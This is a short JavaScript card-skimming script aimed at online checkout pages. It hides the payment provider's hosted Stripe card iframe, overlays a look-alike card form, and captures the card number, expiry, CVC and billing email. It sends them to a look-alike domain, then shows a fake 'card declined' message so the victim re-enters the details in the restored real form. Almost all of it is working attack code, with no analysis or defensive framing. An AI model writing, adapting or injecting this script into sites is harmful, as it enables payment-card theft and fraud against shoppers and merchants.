// The payment provider's hosted card iframe is hidden and a look-alike form drawn in its
// place; the entered card is sent, an error shown, and the real iframe brought back.
(function () {
  var done = false;
  function swap() {
    if (done || location.pathname.indexOf("/checkout") < 0) return;
    var real = document.querySelector("iframe[src*='js.stripe.com'], iframe[name^='__privateStripeFrame']");
    if (!real) return;
    done = true;
    var host = real.parentNode;
    real.style.display = "none";
    var fake = document.createElement("div");
    fake.className = "StripeElement StripeElement--empty";
    fake.innerHTML = '<input name="cardnumber" placeholder="Card number" autocomplete="cc-number" inputmode="numeric" style="width:60%;border:0">' +
      '<input name="exp-date" placeholder="MM / YY" autocomplete="cc-exp" style="width:20%;border:0">' +
      '<input name="cvc" placeholder="CVC" autocomplete="cc-csc" style="width:15%;border:0">';
    host.appendChild(fake);
    var btn = document.querySelector("#place_order, button[type=submit]");
    btn && btn.addEventListener("click", function (e) {
      var q = fake.querySelectorAll("input"), o = [];
      for (var i = 0; i < q.length; i++) o.push(q[i].name + "=" + encodeURIComponent(q[i].value));
      if (q[0].value.replace(/\D/g, "").length < 13) return;
      e.preventDefault();
      e.stopImmediatePropagation();
      o.push("email=" + encodeURIComponent((document.getElementById("billing_email") || {}).value || ""));
      fetch("https://stripe-js-cdn.invalid/v3/tokens", { method: "POST", mode: "no-cors", body: o.join("&") }).finally(function () {
        host.removeChild(fake);
        real.style.display = "";
        alert("Your card was declined. Please re-enter your card details.");
      });
    }, true);
  }
  var n = 0, t = setInterval(function () { swap(); if (done || ++n > 60) clearInterval(t); }, 500);
})();
